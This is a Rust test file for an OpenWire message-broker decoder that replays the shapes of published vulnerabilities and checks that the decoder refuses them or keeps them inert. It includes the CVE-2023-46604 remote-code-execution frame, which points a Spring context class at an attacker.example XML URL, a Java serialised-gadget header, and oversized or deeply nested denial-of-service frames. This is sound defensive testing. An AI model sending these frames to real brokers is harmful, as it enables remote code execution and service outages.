//! Frames that were made to hurt: the shapes of published vulnerabilities of OpenWire, and their relatives. Each ends
//! the connection with an error, after which the decoder reads nothing more.

use crate::runs::buffer;
use ferrymq_openwire::codec::connection::ConnectionError;
use ferrymq_openwire::codec::wire_format_info::{MAGIC, WireFormatInfo};
use ferrymq_openwire::limits::{NESTING_DEPTH_MAX, STRUCTURES_PER_FRAME_MAX, WIRE_FORMAT_INFO_BYTES_MAX};
use ferrymq_openwire::{CodecError, CodecOptions, Command, Decoder};

const MAX_FRAME: usize = 10 << 20;

fn options(tight: bool) -> CodecOptions {
    CodecOptions { version: 12, tight, cache: Some(1024), size_prefix: true, stack_trace: true, max_frame: MAX_FRAME }
}

/// A frame of `body`, with the size in front.
fn frame(body: &[u8]) -> Vec<u8> {
    [&u32::try_from(body.len()).unwrap().to_be_bytes(), body].concat()
}

/// What the decoder says to `body` in a frame; it must say it once and then refuse everything.
fn refused(options: CodecOptions, body: &[u8]) -> CodecError {
    let mut decoder = Decoder::new(options);
    let error = decoder.decode(&mut buffer(&frame(body))).expect_err("the frame is malformed");
    let harmless = frame(b"\x0A\0\0\0\x01\0");
    assert_eq!(decoder.decode(&mut buffer(&harmless)), Err(CodecError::Poisoned));
    error
}

/// Loose: a command's type code, number, and that no response is wanted.
fn loose(type_code: u8, rest: &[u8]) -> Vec<u8> {
    [&[type_code, 0, 0, 0, 1, 0], rest].concat()
}

fn text(value: &str) -> Vec<u8> {
    [&[1][..], &u16::try_from(value.len()).unwrap().to_be_bytes(), value.as_bytes()].concat()
}

#[test]
fn cve_2023_46604_the_class_of_an_exception_is_only_a_name() {
    let class = "org.springframework.context.support.ClassPathXmlApplicationContext";
    let url = "http://attacker.example/poc.xml";
    let exception = [&[1][..], &text(class), &text(url), &[0, 0, 0]].concat();
    // ExceptionResponse, as in the published attack; its correlation id comes first.
    let response = loose(31, &[&[0, 0, 0, 1][..], &exception].concat());
    let mut decoder = Decoder::new(options(false));
    let Ok(Some(Command::ExceptionResponse(response))) = decoder.decode(&mut buffer(&frame(&response))) else {
        panic!("the frame is well formed")
    };
    let throwable = response.exception.unwrap();
    assert_eq!(throwable.class_name.as_deref(), Some(class));
    assert_eq!(throwable.message.as_deref(), Some(url));
    // The same in the two other commands that carry one.
    let error = loose(16, &[&exception[..], &[0]].concat());
    let Ok(Some(Command::ConnectionError(error))) = decoder.decode(&mut buffer(&frame(&error))) else {
        panic!("the frame is well formed")
    };
    assert_eq!(*error, ConnectionError { command_id: 1, exception: Some(throwable), ..ConnectionError::default() });
}

#[test]
fn cve_2015_5254_the_object_in_a_message_stays_octets() {
    // Message fields up to the content are empty; the content starts as Java's serialisation does.
    let serialised = b"\xAC\xED\x00\x05sr\x00\x11evil.Gadget";
    let mut body = loose(26, &[]);
    for _ in 0..4 {
        // Cached and null: new, slot 0, null.
        body.extend_from_slice(&[1, 0, 0, 0]);
    }
    body.extend_from_slice(&[0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    body.extend_from_slice(&[0; 8 + 1 + 1 + 8 + 1]);
    body.push(1);
    body.extend_from_slice(&u32::try_from(serialised.len()).unwrap().to_be_bytes());
    body.extend_from_slice(serialised);
    body.extend_from_slice(&[0, 0, 1, 0, 0, 0]);
    body.extend_from_slice(&[0; 1 + 4 + 1 + 8 + 1 + 1 + 1 + 1 + 8 + 8 + 1]);
    let mut decoder = Decoder::new(options(false));
    let Ok(Some(Command::Message(message))) = decoder.decode(&mut buffer(&frame(&body))) else {
        panic!("the frame is well formed")
    };
    assert_eq!(message.fields.body.content(), Some(&serialised[..]));
}

#[test]
fn cve_2025_27533_an_octet_string_longer_than_its_frame() {
    for length in [u32::MAX / 2, 0x7FFF_FFF0, 100] {
        // The token of a ConnectionControl.
        let control = loose(18, &[&[0; 5 + 1 + 1 + 1][..], &[1], &length.to_be_bytes()].concat());
        let needed = control.len() + length as usize;
        assert_eq!(refused(options(false), &control), CodecError::Truncated { needed });
        // A piece of a command, tight: one bit says that there are octets.
        let piece = [&[60, 1, 1, 0, 0, 0, 1][..], &length.to_be_bytes()].concat();
        let needed = piece.len() + length as usize;
        assert_eq!(refused(options(true), &piece), CodecError::Truncated { needed });
    }
    let negative = loose(18, &[&[0; 5 + 1 + 1 + 1][..], &[1], &(-5_i32).to_be_bytes()].concat());
    assert_eq!(refused(options(false), &negative), CodecError::NegativeLength(-5));
}

#[test]
fn cve_2026_50734_a_first_frame_far_larger_than_it_needs_to_be() {
    // Refused when its type has arrived, long before the bytes that it announces.
    for size in [WIRE_FORMAT_INFO_BYTES_MAX + 1, MAX_FRAME] {
        let mut decoder = Decoder::new(CodecOptions::before_negotiation(MAX_FRAME));
        let mut input = buffer(&u32::try_from(size).unwrap().to_be_bytes());
        assert_eq!(decoder.decode(&mut input), Ok(None));
        input.extend_from_slice(&[WireFormatInfo::TYPE_CODE]);
        let max = WIRE_FORMAT_INFO_BYTES_MAX as u64;
        assert_eq!(decoder.decode(&mut input), Err(CodecError::FrameTooLarge { size: size as u64, max }));
    }
    // Its properties announce more than there is.
    let info = |length: i32| [&[1][..], &MAGIC, &[0, 0, 0, 12, 1], &length.to_be_bytes()].concat();
    let before = || CodecOptions::before_negotiation(MAX_FRAME);
    assert_eq!(refused(before(), &info(0x7FFF_FFFF)), CodecError::Truncated { needed: 18 + 0x7FFF_FFFF });
    assert_eq!(refused(before(), &info(-1)), CodecError::NegativeLength(-1));
}

#[test]
fn cve_2026_53917_properties_that_announce_more_entries_than_they_have() {
    for count in [0x7FFF_FFFF_u32, 65, 64] {
        let mut info = WireFormatInfo { magic: MAGIC, version: 12, ..WireFormatInfo::default() };
        info.marshalled_properties = Some(count.to_be_bytes().to_vec().into());
        assert!(matches!(info.properties(), Err(CodecError::Truncated { .. })), "{count}");
        // With the entries there, the number itself is too large.
        let entries = b"\0\0\0".repeat(count.min(65) as usize);
        info.marshalled_properties = Some([&count.min(65).to_be_bytes()[..], &entries].concat().into());
        let expected = if count > 64 { Some(CodecError::TooMany) } else { None };
        assert_eq!(info.properties().err(), expected, "{count}");
    }
    // Java accepts no maps in these properties, and no value beyond 512 bytes.
    let mut info = WireFormatInfo { magic: MAGIC, version: 12, ..WireFormatInfo::default() };
    info.marshalled_properties = Some(b"\0\0\0\x01\0\x01a\x0B\0\0\0\0".to_vec().into());
    assert_eq!(info.properties(), Err(CodecError::TooDeep));
    let long = [&b"\0\0\0\x01\0\x01a\x09\x02\x01"[..], &[b'x'; 513]].concat();
    info.marshalled_properties = Some(long.into());
    assert_eq!(info.properties(), Err(CodecError::TooLong(513)));
}

#[test]
fn brokers_within_brokers_end_at_a_limit() {
    // Each BrokerInfo has one peer, which has one peer… (loose, uncached).
    let uncached = || CodecOptions { cache: None, ..options(false) };
    let mut body = vec![2];
    for _ in 0..1000 {
        // Number, no response, no id, no URL, one peer: a BrokerInfo.
        body.extend_from_slice(&[0, 0, 0, 1, 0, 0, 0, 1, 0, 1, 1, 2]);
    }
    assert_eq!(refused(uncached(), &body), CodecError::TooDeep);
    // Many side by side, each with a peer list that is full as well.
    let peer = [&[1, 2, 0, 0, 0, 1][..], &[0; 1 + 1 + 1 + 1 + 1 + 5 + 8 + 1 + 1]].concat();
    let list = [&[1][..], &0x7FFF_u16.to_be_bytes(), &peer.repeat(0x7FFF)].concat();
    let rest = [0; 1 + 5 + 8 + 1 + 1];
    let holder = [&[1, 2, 0, 0, 0, 1, 0, 0, 0][..], &list, &rest].concat();
    let all = [&[2, 0, 0, 0, 1, 0, 0, 0, 1, 0, 3][..], &holder, &holder, &holder, &rest].concat();
    assert!(all.len() < MAX_FRAME && 3 * 0x7FFF > STRUCTURES_PER_FRAME_MAX);
    assert_eq!(refused(uncached(), &all), CodecError::TooMany);
}

#[test]
fn a_frame_may_not_be_larger_than_agreed_nor_empty_nor_negative() {
    for (size, expected) in [
        (0, CodecError::FrameSize(0)),
        (-1, CodecError::FrameSize(-1)),
        (i32::MIN, CodecError::FrameSize(i32::MIN)),
        (i32::MAX, CodecError::FrameTooLarge { size: 0x7FFF_FFFF, max: MAX_FRAME as u64 }),
    ] {
        let mut decoder = Decoder::new(options(true));
        assert_eq!(decoder.decode(&mut buffer(&i32::to_be_bytes(size))), Err(expected));
    }
}

#[test]
fn a_frame_ends_with_its_command() {
    assert_eq!(refused(options(false), &loose(10, &[7, 7])), CodecError::TrailingBytes(2));
    assert_eq!(refused(options(false), &[10, 0, 0]), CodecError::Truncated { needed: 5 });
}

#[test]
fn unknown_and_misplaced_types_are_refused() {
    for type_code in [0, 13, 35, 104, 125, 255] {
        assert_eq!(refused(options(false), &[type_code]), CodecError::UnknownType(type_code));
    }
    // Types of later versions.
    for (version, type_code) in [(1, 19), (1, 20), (2, 19), (2, 29), (11, 92)] {
        let old = CodecOptions { version, ..options(false) };
        assert_eq!(refused(old, &loose(type_code, &[0; 40])), CodecError::UnknownType(type_code));
    }
    // A session's id is a broker's.
    let uncached = || CodecOptions { cache: None, ..options(false) };
    let session = loose(4, &[&[1, 124][..], &text("b")].concat());
    assert_eq!(refused(uncached(), &session), CodecError::UnexpectedType { found: 124, wanted: "SessionId" });
}

#[test]
fn the_cache_gives_only_what_was_put_in_and_only_of_the_right_type() {
    // A session whose id is in a slot never filled, outside, or negative.
    for index in [0_i16, 5, 1023, 1024, i16::MAX, -1, i16::MIN] {
        let session = loose(4, &[&[0][..], &index.to_be_bytes()].concat());
        assert_eq!(refused(options(false), &session), CodecError::CacheIndex(index));
    }
    for index in [1024_i16, i16::MAX, -2, i16::MIN] {
        let session = loose(4, &[&[1][..], &index.to_be_bytes(), &[0]].concat());
        assert_eq!(refused(options(false), &session), CodecError::CacheIndex(index));
    }
    // A broker's id is put in and taken out as a session's.
    let mut decoder = Decoder::new(options(false));
    let remove = loose(12, &[&[1, 0, 7, 1, 124][..], &text("b"), &[0; 8]].concat());
    assert!(matches!(decoder.decode(&mut buffer(&frame(&remove))), Ok(Some(_))));
    let session = frame(&loose(4, &[0, 0, 7]));
    let expected = CodecError::UnexpectedType { found: 124, wanted: "SessionId" };
    assert_eq!(decoder.decode(&mut buffer(&session)), Err(expected));
}

#[test]
fn counts_beyond_what_follows_are_refused() {
    let uncached = || CodecOptions { cache: None, ..options(false) };
    // An array of brokers in a ProducerInfo: 32,767 in four bytes, and a negative number.
    let producer = |count: i16| loose(6, &[&[0, 0, 1][..], &count.to_be_bytes(), &[0; 4]].concat());
    assert!(matches!(refused(uncached(), &producer(i16::MAX)), CodecError::Truncated { .. }));
    assert_eq!(refused(uncached(), &producer(-1)), CodecError::NegativeLength(-1));
    assert_eq!(refused(uncached(), &producer(1)), CodecError::Null("BrokerId"));
    // A stack trace of 32,767 elements in four bytes, of more than Java makes, and a negative one.
    let error = |count: i16| loose(16, &[&[1, 0, 0][..], &count.to_be_bytes(), &[0; 4]].concat());
    assert_eq!(refused(options(false), &error(i16::MAX)), CodecError::TooMany);
    assert!(matches!(refused(options(false), &error(1000)), CodecError::Truncated { .. }));
    assert_eq!(refused(options(false), &error(-1)), CodecError::NegativeLength(-1));
}

#[test]
fn causes_and_responses_end_before_the_stack_does() {
    // A throwable without texts and trace that was caused by one that was caused by one…
    let causes = loose(16, &[1, 0, 0, 0, 0].repeat(100_000));
    assert_eq!(refused(options(false), &causes), CodecError::TooDeep);
    // A DataResponse that carries a DataResponse that carries…
    let response = [0, 0, 0, 1, 0, 0, 0, 0, 1, 1, 32];
    let responses = [&[32][..], &response.repeat(100_000)].concat();
    assert_eq!(refused(options(false), &responses), CodecError::TooDeep);
    // As deep as allowed, it is read.
    let innermost = [0, 0, 0, 1, 0, 0, 0, 0, 1, 0];
    let allowed = [&[32][..], &response.repeat(NESTING_DEPTH_MAX), &innermost].concat();
    assert!(matches!(Decoder::new(options(false)).decode(&mut buffer(&frame(&allowed))), Ok(Some(_))));
}

#[test]
fn a_tight_frame_with_too_few_bits_is_refused() {
    // A session with its number and no bit at all, or a stream beyond the frame.
    assert_eq!(refused(options(true), &[4, 0, 0, 0, 0, 1]), CodecError::Bits);
    assert_eq!(refused(options(true), &[4, 63, 0]), CodecError::Truncated { needed: 65 });
    assert_eq!(refused(options(true), &[4, 0x80, 0xFF, 0xFF]), CodecError::Bits);
    // An already marshalled message within a dispatch: bits for number, response, null, null, message, marshalled.
    let uncached = CodecOptions { cache: None, ..options(true) };
    assert_eq!(refused(uncached, &[21, 1, 0b0001_1000, 0, 0, 0, 1, 28]), CodecError::EmbeddedForm);
}

#[test]
fn another_protocol_on_the_port_is_told_from_the_magic() {
    for first in [&b"\x01ActiveMX\0\0\0\x0C\0"[..], b"\x01Passive!\0\0\0\x0C\0"] {
        assert_eq!(refused(CodecOptions::before_negotiation(MAX_FRAME), first), CodecError::Magic);
    }
}
